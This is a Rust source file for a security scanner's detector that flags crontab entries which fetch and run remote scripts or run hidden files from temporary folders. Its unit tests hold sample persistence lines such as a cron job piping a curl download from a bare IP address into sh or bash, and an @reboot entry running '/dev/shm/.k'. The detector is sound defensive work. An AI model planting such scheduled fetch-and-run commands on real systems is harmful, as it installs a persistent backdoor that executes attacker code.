//! Flags scheduled commands that fetch, decode or run what no package would.
//!
//! A line in a crontab runs again and again without anybody asking. Packages schedule their own programs; intruders fetch
//! theirs anew, or run them from where anybody may write.
//!
//! - Sees: `etc/crontab`, `etc/cron*/*`, `etc/anacrontab`, `var/spool/cron/**` with such a command.
//! - Misses: a harmless-looking line that runs a bad script (the script's own content is looked at); systemd timers.
//! - False alarms: home-made update jobs that pipe a download into a shell (a sign).
//! - Source: crontab(5), anacrontab(5); ATT&CK T1053.003.

use model::{Category, Confidence, FileKind, Maturity, Severity, Weight};

use super::{About, Detector, Match, Sample, Scope};
use crate::{Place, shell::startup};

pub(super) const DETECTOR: Detector = Detector {
    about: About {
        id: "cron-persistence",
        title: "Scheduled command that fetches or hides what it runs",
        category: Category::Backdoor,
        weight: Weight::Proof,
        severity: Severity::High,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: &["T1053.003"],
    },
    scope: Scope::Place(is_schedule),
    inspect,
};

fn is_schedule(place: &Place<'_>) -> bool {
    place.kind != FileKind::Elf
        && (place.path.starts_with("etc/cron")
            || place.path == "etc/anacrontab"
            || place.path.starts_with("var/spool/cron/"))
}

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    startup::lines(sample, DETECTOR.about.weight, command)
}

/// A crontab line without its five time fields (or its nickname); a script's line as it is.
fn command(line: &str) -> Option<&str> {
    let mut rest = line;
    if let Some(nickname) = rest.strip_prefix('@') {
        return nickname.split_once(char::is_whitespace).map(|(_, command)| command.trim_start());
    }
    let is_field = |word: &str| {
        !word.is_empty()
            && (word.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'*' | b'/' | b',' | b'-'))
                || matches!(word.len(), 3) && word.bytes().all(|b| b.is_ascii_alphabetic()))
    };
    for _ in 0..5 {
        match rest.split_once(char::is_whitespace) {
            Some((word, tail)) if is_field(word) => rest = tail.trim_start(),
            _ => return Some(rest),
        }
    }
    Some(rest)
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::detectors::testing::check;

    #[test]
    fn a_crontab_that_fetches_is_told_with_its_source() {
        check(
            &DETECTOR,
            "var/spool/cron/crontabs/root",
            b"*/5 * * * * curl -fsSL http://198.51.100.7/u.sh | sh\n",
            &["fetches and runs http://198.51.100.7/u.sh from a bare address"],
        );
        check(
            &DETECTOR,
            "etc/cron.d/backup",
            b"* * * * * root curl -fsSL http://203.0.113.7/b.sh | bash >/dev/null 2>&1\n",
            &["fetches and runs http://203.0.113.7/b.sh from a bare address"],
        );
        check(&DETECTOR, "etc/cron.d/x", b"@reboot root /dev/shm/.k\n", &["runs /dev/shm/.k from a temporary folder"]);
    }

    #[test]
    fn distribution_files_are_silent() {
        let debian = b"SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n\
            25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n";
        check(&DETECTOR, "etc/crontab", debian, &[]);
        check(
            &DETECTOR,
            "etc/cron.d/php",
            b"09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n",
            &[],
        );
    }
}
